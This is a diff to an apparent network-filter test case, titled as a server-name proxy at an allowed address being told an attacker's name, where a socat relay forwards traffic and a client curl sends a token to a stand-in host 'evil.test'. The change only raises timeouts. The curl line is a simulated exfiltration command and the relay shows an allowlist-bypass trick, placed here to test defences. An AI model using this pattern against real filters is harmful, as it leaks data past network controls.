@@ -5,6 +5,6 @@ title='A server-name proxy at an allowed address, told the name of the attacker'
 reason=not_in_allowlist extra=(tls://chain0.test:4430)
 prepare() { start "$T/sniproxy" s socat TCP-LISTEN:4430,fork,reuseaddr TCP:198.18.3.66:443; }
 attack() {
-    eventually 3 h s sh -c 'ss -Hltn sport = 4430 | grep -q .'
-    client sh -c 'getent ahosts chain0.test > /dev/null; curl -4 -sk --max-time 1 --resolve "$1.evil.test:4430:198.18.2.81" "https://$1.evil.test:4430/$1"' sh "$1"
+    eventually 15 h s sh -c 'ss -Hltn sport = 4430 | grep -q .'
+    client sh -c 'getent ahosts chain0.test > /dev/null; curl -4 -sk --max-time 20 --resolve "$1.evil.test:4430:198.18.2.81" "https://$1.evil.test:4430/$1"' sh "$1"
 }
